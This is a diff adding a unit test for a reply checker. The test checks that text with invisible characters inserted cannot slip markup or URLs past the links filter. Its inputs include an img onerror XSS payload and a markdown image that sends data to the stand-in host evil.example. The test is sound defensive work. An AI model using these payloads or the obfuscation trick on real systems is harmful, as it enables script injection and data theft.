@@ -258,6 +258,25 @@ describe('structure', () => {
 })
 
 describe('hidden characters', () => {
+  it.each([1, 2, 3, 4, 40, 400])('do not carry markup or addresses past the links check, %i between letters', async (run) => {
+    const checker = createReplyChecker({ checks: [linksCheck(), invisibleCheck()] })
+    for (const attack of [
+      '<img src=x onerror=go()> bye',
+      '![a](http://evil.example/x?d=1) bye',
+      'see http://evil.example/x bye',
+      '<a href=x>y</a> bye',
+    ]) {
+      for (const hidden of ['\u200b', '\u2060', '\u00ad']) {
+        const spread = attack.split('').join(hidden.repeat(run))
+        const whole = checker.checkText(spread).text
+        expect(whole, JSON.stringify([attack, whole])).not.toMatch(/<img|<a |https?:\/\/|!\[|\]\(/)
+        let streamed = ''
+        for await (const piece of checker.checkStream(spread.match(/[\s\S]{1,7}/g)!)) streamed += piece
+        expect(streamed).toBe(whole)
+      }
+    }
+  })
+
   it('takes them and control characters out', () => {
     expect(check(invisibleCheck(), 'a\u200bb\u202ec\u0007d\u{e0041}e\u00adf').text).toBe('abcdef')
     unchanged(invisibleCheck(), ['tabs\tand\nlines\r\n', 'naïve façade', '日本語'])
